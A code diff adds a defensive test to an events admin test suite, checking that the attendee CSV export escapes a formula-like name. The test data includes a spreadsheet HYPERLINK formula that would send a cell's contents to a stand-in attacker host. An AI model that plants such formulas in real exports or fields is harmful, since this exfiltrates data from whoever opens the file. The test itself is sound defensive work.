@@ -1,7 +1,9 @@
 """The events admin: actions, changes through the services, and times typed in the
 event's own time zone."""
 
+import csv
 import datetime as dt
+import io
 from zoneinfo import ZoneInfo
 
 import pytest
@@ -199,3 +201,16 @@ def test_admin_bad_times_are_field_errors_and_save_nothing():
     )
     assert response.status_code == 200
     assert not Event.objects.exists()
+
+
+def test_admin_attendee_export_keeps_a_formula_name_as_text():
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    event = EventFactory(title="@Osaka forum")
+    services.registration_create(actor=member(first_name=evil, last_name=""), event=event)
+    response = logged_in(StaffFactory(is_superuser=True)).post(
+        "/admin/events/event/", {"action": "export_attendees", "_selected_action": [event.pk]}
+    )
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert table[0][:3] == ["event", "registration", "name"]
+    assert (table[1][0], table[1][2]) == ("'@Osaka forum", "'" + evil)
